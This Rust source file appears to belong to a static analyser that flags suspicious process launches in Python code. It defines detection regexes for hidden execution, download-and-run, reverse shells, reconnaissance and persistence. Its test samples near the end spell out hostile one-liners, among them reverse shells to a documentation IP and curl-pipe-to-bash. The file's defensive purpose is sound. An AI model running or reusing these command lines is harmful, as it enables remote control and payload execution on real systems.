//! Helpers shared by rules: the strings of a member (AST literals, or the whole text when there
//! is no AST), the process-spawning calls and the command lines they run, and patterns for
//! command lines that more than one rule reads.

use std::sync::LazyLock;

use regex::Regex;
use ruff_python_ast::Expr;
use ruff_text_size::{Ranged, TextRange, TextSize};

use super::MemberCx;
use crate::python::{CallFact, PyFile, StrKind, Val};

/// A string a rule reads: a literal (or folded string) of the AST, or the whole text of a
/// member without AST.
#[derive(Debug, Clone, Copy)]
pub struct StrItem<'s> {
    pub text: &'s str,
    /// The source range it stands for.
    pub range: TextRange,
    /// True when offsets inside `text` are offsets in the source (text mode).
    pub exact: bool,
    pub kind: Option<StrKind>,
}

impl StrItem<'_> {
    /// The source offset of a match starting at `i` in `text`.
    pub fn at(&self, i: usize) -> TextSize {
        if self.exact {
            self.range.start() + TextSize::try_from(i).unwrap_or_default()
        } else {
            self.range.start()
        }
    }

    /// A window of `text` around `start..end`, for a snippet.
    pub fn window(&self, start: usize, end: usize) -> &str {
        let mut s = start.saturating_sub(40);
        while s > 0 && !self.text.is_char_boundary(s) {
            s -= 1;
        }
        let mut e = (end + 60).min(self.text.len());
        while e < self.text.len() && !self.text.is_char_boundary(e) {
            e += 1;
        }
        // Stay on the match's line.
        let w = &self.text[s..e];
        let rel_start = start - s;
        let line_start = w[..rel_start].rfind('\n').map_or(0, |i| i + 1);
        let line_end = w[rel_start..].find('\n').map_or(w.len(), |i| rel_start + i);
        &w[line_start..line_end]
    }
}

/// The source range from byte `start` to byte `end` (offsets found by a text search).
pub fn span(start: usize, end: usize) -> TextRange {
    TextRange::new(
        TextSize::try_from(start).unwrap_or_default(),
        TextSize::try_from(end).unwrap_or_default(),
    )
}

/// True when folded text looks like a program (it is scanned as a payload, not as a string).
pub fn looks_like_code(s: &str) -> bool {
    if s.len() < 40 {
        return false;
    }
    let markers = [
        "import ",
        "exec(",
        "eval(",
        "def ",
        "subprocess",
        "os.system",
        "__import__",
        "urlopen",
        "requests.",
        "socket.",
        "base64",
        "lambda ",
        "\nfor ",
        "\nif ",
        "print(",
    ];
    let hits = markers.iter().filter(|m| s.contains(*m)).count();
    hits >= 2 || (hits >= 1 && s.contains('\n'))
}

/// The strings of a member: with an AST, its literals (without docstrings) and folded strings
/// (without folded programs, which are scanned as payloads); without one, its whole code text.
pub fn strings<'a>(cx: &MemberCx<'a>) -> Vec<StrItem<'a>> {
    if let Some(py) = cx.ast() {
        return py
            .code_strings()
            .filter(|s| !(s.kind == StrKind::Folded && looks_like_code(&s.value)))
            .map(|s| StrItem {
                text: &s.value,
                range: s.range,
                exact: false,
                kind: Some(s.kind),
            })
            .collect();
    }
    match cx.code_text() {
        Some(t) => vec![StrItem {
            text: t,
            range: TextRange::new(
                TextSize::default(),
                TextSize::try_from(t.len()).unwrap_or_default(),
            ),
            exact: true,
            kind: None,
        }],
        None => Vec::new(),
    }
}

/// A cheap first pass for a rule's string patterns: each pattern searched once over all of a
/// member's strings (joined by newlines) decides whether the per-string loop can find anything
/// at all — one search per pattern and member instead of one per pattern and string. Built from
/// the same patterns the loop uses, in multi-line mode so that `^` and `$` also match at the
/// joins: it may say yes where no single string matches, never no where one does. (One regex
/// of all the patterns is slower: the alternation defeats each pattern's literal prefilter.)
pub struct Gate(Vec<Regex>);

impl Gate {
    pub fn new<'p>(patterns: impl IntoIterator<Item = &'p Regex>) -> Self {
        // A pattern without anchors means the same in multi-line mode: share its compiled form.
        let res: Vec<Regex> = patterns
            .into_iter()
            .map(|re| {
                let p = re.as_str();
                if p.contains(['^', '$']) {
                    crate::pattern::multi_line(p).unwrap_or_else(|e| panic!("gate {p}: {e}"))
                } else {
                    re.clone()
                }
            })
            .collect();
        assert!(res.len() <= 64, "a gate's mask holds 64 patterns");
        Self(res)
    }

    /// True when one of the patterns may match one of the member's strings.
    pub fn open(&self, cx: &MemberCx<'_>) -> bool {
        let joined = cx.joined_strings();
        self.0.iter().any(|re| re.is_match(joined))
    }

    /// The member's strings when the gate lets them through, else none.
    pub fn strings<'c, 'a>(&self, cx: &'c MemberCx<'a>) -> &'c [StrItem<'a>] {
        if self.open(cx) { cx.strings() } else { &[] }
    }

    /// Which patterns may match one of the member's strings: bit `i` for the `i`th pattern
    /// given to [`Gate::new`]. The per-string loop runs only those.
    pub fn mask(&self, cx: &MemberCx<'_>) -> u64 {
        let joined = cx.joined_strings();
        self.0
            .iter()
            .enumerate()
            .filter(|(_, re)| re.is_match(joined))
            .fold(0, |m, (i, _)| m | 1 << i)
    }
}

/// The items of `patterns` whose bit is set in a [`Gate::mask`].
pub fn masked<T>(patterns: &[T], mask: u64) -> impl Iterator<Item = &T> {
    patterns
        .iter()
        .enumerate()
        .filter(move |(i, _)| mask & (1 << i) != 0)
        .map(|(_, p)| p)
}

/// Calls that start a process.
pub const SPAWN: &[&str] = &[
    "subprocess.Popen",
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "os.system",
    "os.popen",
    "os.popen2",
    "os.popen3",
    "os.popen4",
    "os.execl",
    "os.execle",
    "os.execlp",
    "os.execlpe",
    "os.execv",
    "os.execve",
    "os.execvp",
    "os.execvpe",
    "os.spawnl",
    "os.spawnle",
    "os.spawnlp",
    "os.spawnlpe",
    "os.spawnv",
    "os.spawnve",
    "os.spawnvp",
    "os.spawnvpe",
    "os.posix_spawn",
    "os.posix_spawnp",
    "os.startfile",
    "pty.spawn",
    "commands.getoutput",
    "commands.getstatusoutput",
    "asyncio.create_subprocess_exec",
    "asyncio.create_subprocess_shell",
    "platform.popen",
    "popen2.popen2",
    "popen2.popen3",
    "win32api.ShellExecute",
    "win32process.CreateProcess",
    "ctypes.windll.shell32.ShellExecuteW",
    "ctypes.windll.shell32.ShellExecuteA",
    "ctypes.windll.kernel32.CreateProcessW",
    "ctypes.windll.kernel32.CreateProcessA",
    "ctypes.windll.kernel32.WinExec",
];

/// A process-spawning call and the command line it runs, as far as it can be folded.
pub struct Spawn<'p, 'a> {
    pub call: &'p CallFact<'a>,
    /// The command line (list arguments joined by spaces; unknown parts as `*`).
    pub command: Option<String>,
    pub shell: bool,
}

/// The process-spawning calls of a file.
pub fn spawns<'p, 'a>(py: &'p PyFile<'a>) -> Vec<Spawn<'p, 'a>> {
    py.calls
        .iter()
        .filter(|c| SPAWN.contains(&c.name.as_str()))
        .map(|c| {
            let shell = c.name == "os.system"
                || c.name == "os.popen"
                || c.name.ends_with("getoutput")
                || c.name.ends_with("getstatusoutput")
                || c.name.ends_with("_shell")
                || c.kwarg("shell")
                    .is_some_and(|v| !matches!(v, Expr::BooleanLiteral(b) if !b.value));
            // os.exec*/spawn* take the program then its argv.
            let args: Vec<&Expr> = if c.name.starts_with("os.spawn") {
                c.call.arguments.args.iter().skip(1).collect()
            } else if c.name.starts_with("os.exec") {
                c.call.arguments.args.iter().collect()
            } else if c.name.starts_with("ctypes.windll.shell32.ShellExecute")
                || c.name == "win32api.ShellExecute"
            {
                c.call.arguments.args.iter().skip(2).take(2).collect()
            } else if c.name == "asyncio.create_subprocess_exec" {
                c.call.arguments.args.iter().collect()
            } else {
                c.arg_or(0, "args").into_iter().collect()
            };
            let command = command_line(py, &args, c.scope);
            Spawn {
                call: c,
                command,
                shell,
            }
        })
        .collect()
}

/// Folds arguments into one command line.
pub fn command_line<'a>(py: &PyFile<'a>, args: &[&'a Expr], scope: u32) -> Option<String> {
    let mut parts = Vec::new();
    for a in args {
        let a: &'a Expr = a;
        match py.eval(a, scope).map(|f| f.val) {
            Some(Val::List(items)) => {
                for it in items {
                    parts.push(it.text().map_or_else(|| "*".to_owned(), str::to_owned));
                }
            }
            Some(v) => parts.push(v.text().map_or_else(|| "*".to_owned(), str::to_owned)),
            None => match a {
                Expr::List(l) => {
                    for e in &l.elts {
                        parts.push(py.eval_partial(e, scope).unwrap_or_else(|| {
                            py.qualify(e, scope, 0)
                                .filter(|q| q == "sys.executable")
                                .map_or_else(|| "*".to_owned(), |_| "python".to_owned())
                        }));
                    }
                }
                Expr::Tuple(t) => {
                    for e in &t.elts {
                        parts.push(py.eval_partial(e, scope).unwrap_or_else(|| "*".to_owned()));
                    }
                }
                _ => parts.push(py.eval_partial(a, scope).unwrap_or_else(|| {
                    py.qualify(a, scope, 0)
                        .filter(|q| q == "sys.executable")
                        .map_or_else(|| "*".to_owned(), |_| "python".to_owned())
                })),
            },
        }
    }
    let line = parts.join(" ");
    (!line.chars().all(|c| c == '*' || c == ' ')).then_some(line)
}

/// What a command line does that rules care about.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CommandTrait {
    /// Runs hidden or detached (`-WindowStyle Hidden`, `start /b`, `nohup`, trailing `&`).
    Hidden,
    /// PowerShell with an encoded command.
    EncodedPowershell,
    /// Fetches and runs (`curl ... | sh`, `certutil -urlcache`, `IEX (...DownloadString`).
    DownloadExec,
    /// Fetches to a file (`curl -o`, `wget`, `Invoke-WebRequest -OutFile`).
    Fetch,
    /// `pip install` at run time.
    PipInstall,
    /// `pip install` of a URL, VCS link or another index.
    PipInstallUrl,
    /// A reverse-shell one-liner.
    ReverseShell,
    /// Dumps the environment (`env`, `printenv`, `set`).
    EnvDump,
    /// Host reconnaissance (`whoami`, `systeminfo`, `ipconfig`, ...).
    Recon,
    /// Persistence (`crontab`, `schtasks /create`, `reg add ...\Run`, `systemctl enable`).
    Persistence,
    /// Makes a file executable (`chmod +x`, `chmod 777`).
    Chmod,
}

/// Command-line shapes: a trait, the regex, and literals one of which (any case) every match
/// of the regex contains — the first pass that decides which regexes run on a string.
static COMMAND_PATTERNS: LazyLock<Vec<CommandPattern>> = LazyLock::new(|| {
    use CommandTrait as T;
    let p = |t, re: &str, needs: &'static [&'static str]| CommandPattern {
        t,
        re: crate::pattern::new(re).unwrap_or_else(|e| panic!("{re}: {e}")),
        needs,
    };
    vec![
        p(
            T::Hidden,
            r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s-w(?:indowstyle)?\s+(?:h(?:idden)?|1)\b",
            &["powershell", "pwsh"],
        ),
        p(
            T::Hidden,
            r"(?i)(?:^|[\s&|;])start\s+(?:\x22[^\x22]*\x22\s+)?/(?:b|min)\b",
            &["start"],
        ),
        p(
            T::Hidden,
            r"(?i)(?:^|[\s;&|(])(?:nohup|setsid|disown)\b",
            &["nohup", "setsid", "disown"],
        ),
        p(T::Hidden, r"(?i)\bpythonw(?:\.exe)?\b", &["pythonw"]),
        p(
            T::Hidden,
            r"(?i)>\s*/dev/null\s+2>&1\s*&\s*$",
            &["/dev/null"],
        ),
        p(T::Hidden, r"(?i)[^&]&\s*$", &["&"]),
        p(
            T::Hidden,
            r"(?i)\b(?:wscript|cscript)(?:\.exe)?\b.*\.(?:vbs|js)\b",
            &["wscript", "cscript"],
        ),
        p(
            T::EncodedPowershell,
            r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b.*\s-(?:e|ec|en|enc|enco|encodedcommand)\s+[A-Za-z0-9+/=]{16,}",
            &["powershell", "pwsh"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\b(?:curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
            &["curl", "wget"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\b(?:curl|wget)\b[^|;&\n]*\|\s*python[0-9.]*\b",
            &["curl", "wget"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\b(?:curl|wget)\b[^\n]*(?:&&|;|\|\|)\s*(?:sudo\s+)?(?:chmod\s+\+?[0-7x]+|\./|(?:ba|z)?sh\s|python[0-9.]*\s|start\s)",
            &["curl", "wget"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\bcertutil(?:\.exe)?\b.*-urlcache",
            &["certutil"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\bbitsadmin(?:\.exe)?\b.*/transfer",
            &["bitsadmin"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\bmshta(?:\.exe)?\s+(?:https?|vbscript|javascript):",
            &["mshta"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\brundll32(?:\.exe)?\s+(?:javascript:|url\.dll|\S*\\)",
            &["rundll32"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\bregsvr32(?:\.exe)?\b.*/i:\s*https?",
            &["regsvr32"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\b(?:iex|invoke-expression)\b",
            &["iex", "invoke-expression"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\.download(?:string|data)\s*\(",
            &[".download"],
        ),
        p(
            T::DownloadExec,
            r"(?i)\b(?:invoke-webrequest|iwr|invoke-restmethod|irm|start-bitstransfer)\b[^\n]*(?:;|\|)\s*(?:start-process|saps|start|&|\.\\)",
            &[
                "invoke-webrequest",
                "iwr",
                "invoke-restmethod",
                "irm",
                "start-bitstransfer",
            ],
        ),
        p(
            T::Fetch,
            r"(?i)\bcurl\b[^\n|;&]*\s(?:-o|-O|--output|--remote-name)\b[^\n]*https?://|\bcurl\b[^\n|;&]*https?://\S*[^\n|;&]*\s(?:-o|-O|--output|>)|\bwget\s+[^\n|;&]*https?://",
            &["curl", "wget"],
        ),
        p(
            T::Fetch,
            r"(?i)\b(?:invoke-webrequest|iwr)\b[^\n]*-outfile\b|\bstart-bitstransfer\b|\.downloadfile\s*\(",
            &[
                "invoke-webrequest",
                "iwr",
                "start-bitstransfer",
                ".downloadfile",
            ],
        ),
        p(
            T::PipInstall,
            r"(?i)\bpip[0-9.]*(?:\.exe)?\s+(?:-\S+\s+)*install\b",
            &["pip"],
        ),
        p(
            T::PipInstallUrl,
            r"(?i)\bpip[0-9.]*(?:\.exe)?\s+(?:-\S+\s+)*install\b[^\n]*(?:https?://|git\+|--index-url|--extra-index-url|\s-i\s+\S)",
            &["pip"],
        ),
        p(
            T::ReverseShell,
            r"(?i)/dev/(?:tcp|udp)/[\w.\-]+/\d+",
            &["/dev/"],
        ),
        p(
            T::ReverseShell,
            r"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;]*\s-(?:e|c)\s*\S*(?:sh|cmd|powershell)",
            &["nc", "ncat", "netcat"],
        ),
        p(
            T::ReverseShell,
            r"(?i)\bsocat\b[^\n]*\b(?:exec|system):",
            &["socat"],
        ),
        p(
            T::ReverseShell,
            r"(?i)mkfifo\b[^\n]*\b(?:nc|ncat|netcat)\b",
            &["mkfifo"],
        ),
        p(
            T::ReverseShell,
            r"(?i)System\.Net\.Sockets\.TCPClient\s*\(",
            &["system.net.sockets.tcpclient"],
        ),
        p(
            T::EnvDump,
            r"(?i)^\s*(?:env|printenv|set|export\s+-p|cmd(?:\.exe)?\s+/c\s+set|get-childitem\s+env:|gci\s+env:)\s*$",
            &["env", "set", "export", "gci", "get-childitem"],
        ),
        p(
            T::Recon,
            r"(?i)^\s*(?:whoami|hostname|systeminfo|ipconfig|ifconfig|uname|id|net\s+(?:user|view|config)|nltest|wmic|ip\s+a(?:ddr)?|arp)\b",
            &[
                "whoami",
                "hostname",
                "systeminfo",
                "ipconfig",
                "ifconfig",
                "uname",
                "id",
                "net",
                "nltest",
                "wmic",
                "ip",
                "arp",
            ],
        ),
        p(
            T::Persistence,
            r"(?i)\bcrontab\s+(?:-u\s+\S+\s+)?(?:-(?:\s|$|\))|[^-\s]\S*)|@reboot\b|>>?\s*/etc/cron",
            &["crontab", "@reboot", "/etc/cron"],
        ),
        p(
            T::Persistence,
            r"(?i)\bschtasks(?:\.exe)?\b.*/create\b",
            &["schtasks"],
        ),
        p(
            T::Persistence,
            r"(?i)\breg(?:\.exe)?\s+add\b.*\\(?:Run|RunOnce|Winlogon)\b",
            &["reg"],
        ),
        p(
            T::Persistence,
            r"(?i)\bsystemctl\s+(?:--user\s+)?enable\b",
            &["systemctl"],
        ),
        p(
            T::Persistence,
            r"(?i)\blaunchctl\s+(?:load|bootstrap)\b",
            &["launchctl"],
        ),
        p(
            T::Persistence,
            r"(?i)>>\s*~?/?[\w/.]*\.(?:bashrc|zshrc|bash_profile|profile|zprofile)\b",
            &[">>"],
        ),
        p(
            T::Chmod,
            r"(?i)\bchmod\s+(?:-\w+\s+)*(?:\+x|[0-7]*[1357][0-7]{2}|u\+x|a\+x)\b",
            &["chmod"],
        ),
    ]
});

/// The traits of a command line, each with the byte range of its match.
pub fn command_traits(cmd: &str) -> Vec<(CommandTrait, std::ops::Range<usize>)> {
    let mut out: Vec<(CommandTrait, std::ops::Range<usize>)> = Vec::new();
    let mut candidates = 0u64;
    for m in COMMAND_NEEDLES.1.find_overlapping_iter(cmd) {
        candidates |= COMMAND_NEEDLES.0[m.pattern().as_usize()];
    }
    for (i, p) in COMMAND_PATTERNS.iter().enumerate() {
        if candidates & (1 << i) == 0 || out.iter().any(|(x, _)| *x == p.t) {
            continue;
        }
        if let Some(m) = p.re.find(cmd) {
            out.push((p.t, m.range()));
        }
    }
    out
}

/// One shape of [`COMMAND_PATTERNS`].
struct CommandPattern {
    t: CommandTrait,
    re: Regex,
    /// Every match of `re` contains one of these (ASCII case-insensitive).
    needs: &'static [&'static str],
}

/// Every needle of [`COMMAND_PATTERNS`] in one automaton, each mapped to the bit set of the
/// patterns that need it.
static COMMAND_NEEDLES: LazyLock<(Vec<u64>, aho_corasick::AhoCorasick)> = LazyLock::new(|| {
    assert!(COMMAND_PATTERNS.len() <= 64, "command patterns fit a u64");
    let mut needles: Vec<&str> = Vec::new();
    let mut bits: Vec<u64> = Vec::new();
    for (i, p) in COMMAND_PATTERNS.iter().enumerate() {
        for n in p.needs {
            if let Some(j) = needles.iter().position(|x| x == n) {
                bits[j] |= 1 << i;
            } else {
                needles.push(n);
                bits.push(1 << i);
            }
        }
    }
    let ac = aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(&needles)
        .unwrap_or_else(|e| panic!("command needles: {e}"));
    (bits, ac)
});

/// The traits of a command line; for strings that are not passed to a process, only the
/// shapes that are commands beyond doubt are kept (no bare `iex`, trailing `&` or `env`).
pub fn command_traits_in_string(s: &str) -> Vec<(CommandTrait, std::ops::Range<usize>)> {
    if s.len() > 64 * 1024 {
        return Vec::new();
    }
    command_traits(s)
        .into_iter()
        .filter(|(t, r)| match t {
            CommandTrait::Hidden => {
                let m = &s[r.clone()];
                m.to_ascii_lowercase().contains("-w") || m.to_ascii_lowercase().contains("start")
            }
            CommandTrait::DownloadExec => {
                let m = s[r.clone()].to_ascii_lowercase();
                !(m.trim() == "iex" || m.trim() == "invoke-expression")
                    || s.to_ascii_lowercase().contains("http")
            }
            CommandTrait::EnvDump | CommandTrait::Recon | CommandTrait::PipInstall => false,
            _ => true,
        })
        .collect()
}

/// `creationflags`/`startupinfo`/session arguments that hide or detach a process.
pub fn hidden_flags(py: &PyFile<'_>, call: &CallFact<'_>) -> Option<&'static str> {
    if let Some(v) = call.kwarg("creationflags") {
        let src = py.slice(v.range()).to_ascii_uppercase();
        if src.contains("CREATE_NO_WINDOW")
            || src.contains("0X08000000")
            || src.contains("134217728")
        {
            return Some("creationflags=CREATE_NO_WINDOW");
        }
        if src.contains("DETACHED_PROCESS")
            || src.contains("0X00000008")
            || src.trim() == "8"
            || src.trim() == "0X8"
        {
            return Some("creationflags=DETACHED_PROCESS");
        }
    }
    if call.kwarg("startupinfo").is_some() {
        let scope = &py.scopes[call.scope as usize];
        let body = py.slice(scope.range);
        if body.contains("SW_HIDE")
            || body.contains("STARTF_USESHOWWINDOW")
            || body.contains("wShowWindow")
        {
            return Some("startupinfo hides the window");
        }
    }
    None
}

/// True when hiding a process's window hides something worth hiding: a command that is not
/// known statically, a shell, an interpreter, a script host or a download tool — rather than
/// an ordinary program (`git`, `latex`) whose console a GUI does not want to flash.
pub fn hides_something(command: Option<&str>, shell: bool) -> bool {
    let Some(cmd) = command else { return true };
    let first = cmd
        .split_whitespace()
        .next()
        .unwrap_or("")
        .trim_matches(['"', '\'']);
    if shell || first.contains('*') {
        return true;
    }
    let base = first
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(first)
        .to_ascii_lowercase();
    let base = base.strip_suffix(".exe").unwrap_or(&base);
    let l = cmd.to_ascii_lowercase();
    matches!(
        base,
        "powershell"
            | "pwsh"
            | "cmd"
            | "python"
            | "python3"
            | "pythonw"
            | "py"
            | "wscript"
            | "cscript"
            | "mshta"
            | "rundll32"
            | "regsvr32"
            | "bash"
            | "sh"
            | "certutil"
            | "bitsadmin"
            | "curl"
            | "wget"
            | "start"
            | "schtasks"
            | "reg"
    ) || l.contains("%temp%")
        || l.contains("appdata")
        || l.contains("/tmp/")
}

/// Calls that fetch from the network (their result is remote content).
pub const FETCH: &[&str] = &[
    "urllib.request.urlopen",
    "urllib.urlopen",
    "urllib2.urlopen",
    "urllib.request.urlretrieve",
    "urllib.urlretrieve",
    "requests.get",
    "requests.post",
    "requests.request",
    "requests.Session().get",
    "requests.session().get",
    "httpx.get",
    "httpx.stream",
    "httpx.Client().get",
    "urllib3.PoolManager().request",
    "wget.download",
    "aiohttp.ClientSession().get",
    "http.client.HTTPSConnection().getresponse",
    "http.client.HTTPConnection().getresponse",
    "httplib.HTTPSConnection().getresponse",
    "httplib.HTTPConnection().getresponse",
    "pycurl.Curl().perform",
];

/// True for a call that fetches from the network.
pub fn is_fetch(name: &str) -> bool {
    FETCH.contains(&name)
        || name.starts_with("requests.get().")
        || name.starts_with("urllib.request.urlopen().")
        || name.starts_with("urllib2.urlopen().")
        || name.starts_with("urllib.urlopen().")
        || name.starts_with("httpx.get().")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One or more command lines per shape of [`COMMAND_PATTERNS`], in mixed case.
    const SAMPLES: &[&str] = &[
        "PowerShell.exe -NoP -W Hidden -c x",
        "cmd /c START /B x.exe",
        "nohup ./x &",
        "pythonw.exe x.pyw",
        "./x > /dev/null 2>&1 &",
        "run x &",
        "WScript.exe //B x.vbs",
        "pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "curl -s https://example.com/i | sudo bash",
        "wget -qO- https://example.com/i | python3",
        "curl -o /tmp/x https://example.com/x && chmod +x /tmp/x",
        "certutil.exe -urlcache -f https://example.com/x x.exe",
        "bitsadmin /transfer j https://example.com/x c:\\x.exe",
        "mshta https://example.com/x.hta",
        "rundll32.exe javascript:x",
        "regsvr32 /s /n /u /i:https://example.com/x scrobj.dll",
        "IEX (New-Object Net.WebClient)",
        "(New-Object Net.WebClient).DownloadString('https://example.com')",
        "Invoke-WebRequest https://example.com/x -OutFile x.exe; Start-Process x.exe",
        "curl -O https://example.com/x",
        "iwr https://example.com/x -OutFile x",
        "pip install requests",
        "pip3 install --index-url https://example.com/simple x",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "ncat 198.51.100.7 4444 -e /bin/sh",
        "socat tcp:198.51.100.7:4444 exec:sh",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | nc 198.51.100.7 4444",
        "$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7', 4444)",
        "printenv",
        "whoami",
        "(crontab -l; echo x) | crontab -",
        "schtasks /create /tn x /tr x.exe",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x",
        "systemctl --user enable x",
        "launchctl load ~/Library/LaunchAgents/x.plist",
        "echo x >> ~/.bashrc",
        "chmod +x /tmp/x",
    ];

    #[test]
    fn every_command_shape_is_exercised_and_its_needles_cover_its_matches() {
        for (i, p) in COMMAND_PATTERNS.iter().enumerate() {
            let mut matched = 0;
            for s in SAMPLES {
                if p.re.is_match(s) {
                    matched += 1;
                    let l = s.to_ascii_lowercase();
                    assert!(
                        p.needs.iter().any(|n| l.contains(n)),
                        "pattern {i} matches {s:?} but needs {:?}",
                        p.needs
                    );
                }
            }
            assert!(matched > 0, "no sample for pattern {i}: {}", p.re.as_str());
        }
    }

    #[test]
    fn the_needle_pass_changes_no_answer() {
        for s in SAMPLES {
            let all: Vec<CommandTrait> = {
                let mut out: Vec<CommandTrait> = Vec::new();
                for p in COMMAND_PATTERNS.iter() {
                    if !out.contains(&p.t) && p.re.is_match(s) {
                        out.push(p.t);
                    }
                }
                out
            };
            let fast: Vec<CommandTrait> = command_traits(s).into_iter().map(|(t, _)| t).collect();
            assert_eq!(fast, all, "{s}");
        }
    }
}
